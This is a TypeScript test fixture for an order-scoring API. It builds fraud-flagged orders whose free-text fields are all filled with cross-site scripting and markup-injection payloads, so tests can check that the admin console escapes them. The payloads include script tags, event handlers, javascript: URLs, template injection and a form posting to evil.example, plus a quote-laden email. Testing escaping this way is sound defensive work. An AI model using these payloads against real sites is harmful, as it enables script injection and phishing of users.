// Orders whose every merchant-supplied string is an attack on the console: script tags, event
// handlers, javascript: URLs, markup that would change the page's structure.
import type { ScoreRequestInput } from '../../services/core/schemas.ts';

export const PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=2;alert(2)">',
  '"><svg onload=window.__pwned=3>',
  'javascript:window.__pwned=4',
  '\'><a href="javascript:window.__pwned=5" id="injected">click</a>',
  '<iframe srcdoc="<script>parent.__pwned=6</script>"></iframe>',
  '</td></tr></table><h1 id="injected-h1">owned</h1>',
  '<style>body{display:none}</style><form action="https://evil.example/"><input name=x></form>',
  '{{constructor.constructor("window.__pwned=7")()}}',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=8>',
];

/** A flagged order (CVV mismatch + failed 3-D Secure) with a payload in every free-text field. */
export function hostileOrder(
  transactionId: string,
  i: number,
  text: (payload: string) => string = (s) => s,
): ScoreRequestInput {
  const p = (k: number) => text(PAYLOADS[(i + k) % PAYLOADS.length]!);
  return {
    transactionId,
    amount: 129_900,
    currency: 'EUR',
    channel: 'ecommerce',
    card: { number: '4000056655665556', expiryMonth: 12, expiryYear: 2030, cvvResult: 'mismatch' },
    threeDS: { status: 'N' },
    customer: { id: p(0).slice(0, 128), email: `x${i}@example.com` },
    device: { id: p(1).slice(0, 128), ip: '203.0.113.66', userAgent: p(2) },
    billingAddress: { name: p(3), line1: p(4), city: p(5).slice(0, 100), country: 'FR' },
    shippingAddress: {
      name: p(6),
      line1: p(7),
      line2: p(8),
      city: p(9).slice(0, 100),
      region: p(0).slice(0, 100),
      postalCode: '75001',
      country: 'JP',
    },
    items: PAYLOADS.map((name, k) => ({
      name: text(name),
      sku: `sku-${k}`,
      category: p(k).slice(0, 100),
      quantity: 1,
      unitPrice: 100,
    })),
  };
}

/** The API only accepts well-formed emails (markup is refused at the door); a quote still must stay text. */
export const HOSTILE_EMAIL = "o'neil'--@example.com";
